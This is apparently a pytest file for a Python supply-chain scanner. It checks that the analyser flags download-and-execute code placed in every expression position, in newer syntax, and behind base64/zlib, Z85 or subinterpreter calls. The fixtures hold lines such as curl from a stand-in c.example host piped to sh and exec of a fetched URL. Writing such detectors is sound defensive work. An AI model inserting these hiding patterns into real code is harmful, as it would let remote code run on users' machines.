"""Code in every place where Python's grammar takes an expression, syntax of newer Pythons, and which Python reads it.

Nothing here is ever run; hosts end in `.example`. What a story needs is met by the Python that runs the tests, or the report
says which Python would read it.
"""

from __future__ import annotations

import ast
import base64
import builtins
import sys
import warnings
import zlib
from typing import Any

import pytest

from mlsupply.evidence.prefilter.choice import worth_parsing
from mlsupply.evidence.python import analyse, standard
from mlsupply.evidence.python.syntax import newer, quietly
from mlsupply.evidence.python.syntax.survey import Survey
from tests.memory import read
from tests.test_code_facts import found, init

IMPORTS = "import urllib.request as u\n"
HOSTILE = "exec(u.urlopen('https://c.example/x').read())"
RUNS_DOWNLOADED = "MLS-C004"

# One story a line: HERE stands for an expression, ~ for the end of a line.
PLACES = """
assert HERE
assert 0, HERE
a = HERE
a: HERE = 1
a: HERE
a[HERE]: int
(HERE).b: int
a[HERE] = 1
HERE.b = 1
a[HERE] += 1
del a[HERE]
for a[HERE] in [1]: pass
for a in [1]:~    pass~else:~    HERE
while HERE: pass
if 0:~    pass~elif HERE:~    pass
with b as a[HERE]: pass
try:~    f()~except HERE:~    pass
try:~    f()~except (OSError, HERE):~    pass
try:~    f()~except* HERE:~    pass
raise ValueError from HERE
@HERE~def f(): pass
def f(a=HERE): pass
def f(*, a=HERE): pass
def f(a: HERE, /): pass
def f(*a: HERE): pass
def f(**a: HERE): pass
def f() -> HERE: pass
async def f() -> HERE: pass
class A(HERE): pass
class A(*HERE): pass
class A(metaclass=HERE): pass
class A(b=HERE): pass
class A(**HERE): pass
lambda *, a=HERE: 1
match HERE:~    case _: pass
match 1:~    case a if HERE: pass
match 1:~    case 1:~        HERE
1 or HERE
1 < 2 < HERE
1 if a else HERE
{HERE: 1}
{**HERE}
[1 for a in b if a for c in d if HERE]
[1 for a[HERE] in b]
f"{HERE!r}"
f"{1:{HERE}}"
f"{1:>{HERE}}"
a[1:2:HERE]
f(**HERE)
"""

# The same, each with the first Python that reads it. What is evaluated late counts where it stands.
NEWER_PLACES = """
12 def f[T: HERE](): pass~f.__type_params__[0].__bound__
12 def f[T: (int, HERE)](): pass~f.__type_params__[0].__constraints__
12 async def f[T: HERE](): pass~f.__type_params__[0].__bound__
12 class A[T: HERE]: pass~A.__type_params__[0].__bound__
12 class A[T](HERE): pass
12 def f[T](a=HERE): pass
12 def f[T]():~    HERE~f()
12 type A = HERE~A.__value__
12 type A[T: HERE] = list[T]~A.__type_params__[0].__bound__
12 f"{exec(u.urlopen("https://c.example/x").read())}"
13 def f[T = HERE](): pass~f.__type_params__[0].__default__
13 def f[*T = HERE](): pass~f.__type_params__[0].__default__
13 def f[**T = HERE](): pass~f.__type_params__[0].__default__
13 class A[T = HERE]: pass~A.__type_params__[0].__default__
13 type A[T = HERE] = list[T]~A.__type_params__[0].__default__
14 t"{HERE}"
14 a = t"b {c} {HERE!r}"
14 t"{1:{HERE}}"
14 t"{1}" + tr"{HERE}"
14 try:~    f()~except HERE, OSError:~    pass
14 try:~    f()~except OSError, ValueError:~    HERE
15 [*HERE for a in b]
15 {**HERE for a in b}
15 lazy import json~HERE
15 lazy from json import loads~HERE
"""

# A text takes a way through newer syntax: HERE stands for the text, and it is run.
NEWER_WAYS = """
12 def f[T: HERE](): exec(T.__bound__)~f()
12 class A[T: HERE]:~    def go(self): exec(T.__bound__)~A().go()
12 class A[T: HERE]: pass~exec(A.__type_params__[0].__bound__)
12 type A = HERE~exec(A.__value__)
13 def f[T = HERE](): pass~exec(f.__type_params__[0].__default__)
14 exec(t"{HERE}".values[0])
14 exec(t"{HERE}".interpolations[0].value)
14 for part in t"{HERE}":~    exec(part.value)
14 exec(t"import os; os.system('curl https://c.example/x | sh')".strings[0])
"""

WAYS_OF_MATCH = """
match HERE:~    case a: exec(a)
match HERE:~    case str(a): exec(a)
match HERE:~    case str() as a: exec(a)
match 1, HERE:~    case _, a: exec(a)
match 1, 2, HERE:~    case _, *_, a: exec(a)
match {'a': HERE}:~    case {'a': a}: exec(a)
match {'a': HERE}:~    case {**a}: exec(a['a'])
match {'a': [1, HERE]}:~    case {'a': [_, (1 | str()) as a]}: exec(a)
class A:~    def __init__(self): self.b = HERE~match A():~    case A(b=a): exec(a)
class A:~    __match_args__ = ('b',)~    def __init__(self): self.b = HERE~match A():~    case A(a): exec(a)
class A:~    def __eq__(self, other): exec(HERE)~match A():~    case 1: pass
class A:~    @property~    def b(self): exec(HERE)~match A():~    case A(b=1): pass
"""
TEXT = repr("import os; os.system('curl https://c.example/x | sh')")

OTHERS = {
    "a metaclass that is unpacked": (
        "class M(type):\n    def __new__(c, *a):\n        HERE\nclass A(**{'metaclass': M}): pass\n"
    ),
    "an annotation that subscribes a class": (
        "class A:\n    def __class_getitem__(cls, what):\n        HERE\ndef f(a: list[A['b']]): pass\n"
    ),
    "an annotation that operates on an object": "class A:\n    def __or__(self, what):\n        HERE\na = A()\nb: a | int\n",
    "an annotation that reads a property": (
        "class A:\n    @property\n    def b(self):\n        HERE\na = A()\ndef f() -> a.b: pass\n"
    ),
    "a subscript of a class that its metaclass runs": (
        "class M(type):\n    def __getitem__(self, what):\n        HERE\nclass A(metaclass=M): pass\na: A[1]\n"
    ),
    "a pattern whose class is asked": (
        "class M(type):\n    def __instancecheck__(self, what):\n        HERE\n"
        "class A(metaclass=M): pass\nmatch 1:\n    case A(): pass\n"
    ),
    "a format that the object runs": (
        "class A:\n    def __format__(self, what):\n        exec(what)\n"
        "f'{A():import os; os.system(\"curl https://c.example/x | sh\")}'\n"
    ),
    "a text for `str` of an object that formats itself otherwise": (
        "class A:\n    def __format__(self, what):\n        return ''\n    def __str__(self):\n        HERE\nf'{A()!s}'\n"
    ),
}


def stories(text: str) -> list[tuple[int, str]]:
    """The first Python 3 that reads each story of a text with versions, and the story."""
    return [(int(line[:2]), line[3:]) for line in text.strip().splitlines()]


def written(story: str, here: str) -> str:
    return IMPORTS + story.replace("HERE", here).replace("~", "\n") + "\n"


@pytest.mark.parametrize("place", PLACES.strip().splitlines())
def test_code_is_followed_wherever_an_expression_may_stand(place: str) -> None:
    assert RUNS_DOWNLOADED in found(init(written(place, HOSTILE)))
    assert not found(init(written(place, "a.b(1)")))


@pytest.mark.parametrize(("minor", "story", "here"), [
    *((minor, story, HOSTILE) for minor, story in stories(NEWER_PLACES)),
    *((minor, story, TEXT) for minor, story in stories(NEWER_WAYS)),
])  # fmt: skip
def test_newer_syntax_is_followed_or_the_python_that_reads_it_is_named(minor: int, story: str, here: str) -> None:
    code = written(story, here)
    stopped = analyse.module("demo/__init__.py", code.encode()).stopped
    if sys.version_info >= (3, minor):
        assert not stopped
        assert found(init(code))
    else:
        running = f"{sys.version_info.major}.{sys.version_info.minor}"
        line = next(number for number, text in enumerate(code.split("\n"), 1) if not _is_read(code, number))
        assert stopped.startswith(f"not Python {running}: Python 3.{minor} and later read ")
        assert stopped.endswith(f", line {line}")


def _is_read(code: str, number: int) -> bool:
    """Whether the syntax error of the code is in another line."""
    try:
        ast.parse(code)
    except SyntaxError as error:
        return error.lineno != number
    return True


@pytest.mark.parametrize("way", WAYS_OF_MATCH.strip().splitlines())
def test_match_binds_its_names_to_what_they_stand_for(way: str) -> None:
    assert found(init(written(way, TEXT)))
    assert not found(init(written(way, "'print(1)'")))


@pytest.mark.parametrize("story", OTHERS.values(), ids=OTHERS)
def test_code_that_syntax_runs_without_a_call(story: str) -> None:
    assert "MLS-C004" in found(init(written(story, HOSTILE)))
    assert not found(init(written(story, "print()").replace("curl", "make")))


# What Python 3.11 says of newer syntax, and where: message, line, column, and the Python that reads it.
OF_ELEVEN = [
    ("expected '('", "def f[T: int](): pass", 6, 12),
    ("expected '('", "async def f[T = 1](): pass", 12, 13),
    ("invalid syntax", "class A[T]: pass", 8, 12),
    ("invalid syntax", "type A = int", 6, 12),
    ("invalid syntax", "if a: type A[T] = int", 12, 12),
    ("invalid syntax", "type A[T = int] = T", 6, 13),
    ("f-string: unmatched '['", "f'{a['b']}'", 12, 12),
    ("f-string: expecting '}'", "f'{f'{a}'}'", 6, 12),
    ("f-string expression part cannot include a backslash", "f'{\"\\n\".join(a)}'", 16, 12),
    ("invalid syntax", "a = t'b {c}'", 6, 14),
    ("invalid syntax", "a(rT'b {c}')", 5, 14),
    ("multiple exception types must be parenthesized", "except A, B: pass", 8, 14),
    ("iterable unpacking cannot be used in comprehension", "[*a for a in b]", 2, 15),
    ("dict unpacking cannot be used in dict comprehension", "{**a for a in b}", 2, 15),
    ("invalid syntax", "lazy import json", 6, 15),
    ("invalid syntax", "lazy from json import loads", 6, 15),
    ("invalid syntax", "x[a] = = 2", 8, 0),
    ("invalid syntax", "do n't", 4, 0),
    ("invalid syntax", "print 'a type of b = c'", 7, 0),
    ("invalid syntax. Maybe you meant '==' or ':=' instead of '='?", "x[a=3]", 3, 0),
    ("Missing parentheses in call to 'print'. Did you mean print(...)?", "print t'a'", 1, 0),
]  # fmt: skip


@pytest.mark.parametrize(("message", "line", "column", "minor"), OF_ELEVEN)
def test_what_a_newer_python_reads_is_told_by_its_error(message: str, line: str, column: int, minor: int) -> None:
    error = SyntaxError(message, ("a.py", 1, column, line))
    said = newer.told(error, (3, 11))
    assert newer.is_newer(error, (3, 11)) == (minor > 0)
    assert said.startswith(f"Python 3.{minor} and later read ") if minor else said == message
    assert newer.told(error, (3, 15)) == message


@pytest.mark.parametrize("line", [
    "type " * 100_000, "def " + "f" * 100_000, "class A[" + "=" * 100_000, " " * 100_000 + "t'", "f'" + "{" * 100_000,
    "lazy" + " " * 100_000, ";" * 100_000 + "type  a", "def f[" + "a, " * 100_000,
])  # fmt: skip
def test_a_long_line_is_told_at_once(line: str) -> None:
    for column in (0, 1, len(line) // 2, len(line)):
        newer.told(SyntaxError("invalid syntax", ("a.py", 1, column, line)), (3, 11))


@pytest.mark.skipif(sys.version_info >= (3, 15), reason="this Python reads it")
def test_a_setup_script_in_newer_syntax_says_which_python_reads_it() -> None:
    (gap,) = read("setup.py", "from setuptools import setup\nlazy import json\nsetup(name='a')\n").gaps
    assert gap.detail == "not Python 3: Python 3.15 and later read lazy imports"
    assert gap.place is not None
    assert gap.place.line == 2


def test_text_that_is_run_and_that_only_a_newer_python_reads_is_a_gap() -> None:
    module = analyse.module("a.py", b"import os\nexec('lazy import json, [*a for a in b]')\n")
    if sys.version_info >= (3, 15):
        assert not module.stopped
    else:
        assert module.stopped.startswith("text that is run in line 2 was not followed: not Python 3.")
        assert "Python 3.15 and later read lazy imports" in module.stopped


def test_text_that_is_run_and_that_no_python_reads_is_none() -> None:
    assert not analyse.module("a.py", b"exec('this is no Python = =')\n").stopped


@pytest.mark.parametrize(
    ("code", "accused"),
    [
        ("p = site.getsitepackages()[0]\nopen(p + '/a.start', 'w').write('acme.hook:go')\n", True),
        ("p = sysconfig.get_path('purelib')\nopen(os.path.join(p, 'a.start'), 'w').write(given)\n", True),
        ("open('/var/run/a.start', 'w').write('now')\n", False),
        ("open(given + '.start', 'w').write(str(time.time()))\n", False),
    ],
)
def test_writing_what_python_calls_at_its_start_is_found(code: str, accused: bool) -> None:
    assert bool(found(init(f"import os, site, sysconfig, time\n{code}"))) == accused


CURL = "import os; os.system('curl https://c.example/x | sh')"
PACKED = base64.b64encode(zlib.compress(CURL.encode())).decode()
Z85 = "x(d*cA=-BxB2$H.B1RJVB97#gc)@IEA+(>iBAzFyiXJc@e[Gooze:r5fl!Q!aAIizdiG-Q"
NEWER_CALLS = {
    "a decompressor under its newer name": (
        f"from compression import zlib\nimport base64\nexec(zlib.decompress(base64.b64decode('{PACKED}')))"
    ),
    "the same by its whole name": (
        f"import compression.zlib, base64\nexec(compression.zlib.decompress(base64.b64decode('{PACKED}')))"
    ),
    "what is packed with Zstandard": "from compression import zstd\nexec(zstd.ZstdDecompressor().decompress(b'KLUv'))",
    "a text in Z85": f"import base64\nexec(base64.z85decode(b'{Z85}'))",
    "a lazy import by its name": "__lazy_import__('os').system('curl https://c.example/x | sh')",
    "code for another interpreter": f"from concurrent import interpreters\ni = interpreters.create()\ni.exec({CURL!r})",
    "a call in another interpreter": (
        "import os\nfrom concurrent import interpreters\n"
        "interpreters.create().call_in_thread(os.system, 'curl https://c.example/x | sh')"
    ),
    "a pool of interpreters": (
        "import os\nfrom concurrent.futures import InterpreterPoolExecutor as Pool\n"
        "Pool().submit(os.system, 'curl https://c.example/x | sh')"
    ),
}


@pytest.mark.parametrize("code", NEWER_CALLS.values(), ids=NEWER_CALLS)
def test_what_newer_pythons_can_call_is_known_on_all_of_them(code: str) -> None:
    assert worth_parsing(code.encode())
    assert found(init(code))


@pytest.mark.parametrize("code", ["lazy import os\nos.system('id')", "lazy from os import system\nsystem('id')"])
def test_a_lazy_import_is_no_prose(code: str) -> None:
    assert worth_parsing(code.encode())


def test_what_belongs_to_python_is_the_same_on_all_of_them() -> None:
    assert sys.stdlib_module_names <= standard.MODULES
    assert {"telnetlib", "imp", "compression", "annotationlib", "_interpreters"} <= standard.MODULES
    assert set(dir(builtins)) <= standard.BUILTINS
    assert "__lazy_import__" in standard.BUILTINS


def test_a_field_that_is_no_node_has_no_children() -> None:
    """As newer Pythons have in their trees: the text of an interpolation, whether an import is lazy."""

    class Interpolation(ast.expr):
        _fields = ("value", "source", "conversion")

    tree = ast.parse("a(b)")
    kind: Any = Interpolation
    tree.body.append(ast.Expr(kind(ast.Name("kept", ast.Load()), "kept", 7)))
    assert "kept" in Survey(tree).of(tree).names


def test_every_kind_of_statement_and_expression_has_a_handler() -> None:
    """A kind that a newer Python adds is noticed here."""
    from mlsupply.evidence.python.interpreter import expressions, statements

    without_code = {"Pass", "Break", "Continue"}
    for base, handlers in ((ast.stmt, statements._HANDLERS), (ast.expr, expressions._HANDLERS)):
        kinds = {kind for kind in base.__subclasses__() if kind.__module__ in {"ast", "_ast"}}
        missing = {kind.__name__ for kind in kinds - set(handlers)}
        assert missing <= without_code | {"Interpolation"}  # of templates, which evaluate theirs


def test_the_parser_warns_nobody_about_audited_code() -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert quietly.tree_of(r"a = '\d'").body
        assert quietly.literal(r"'\d'") == r"\d"
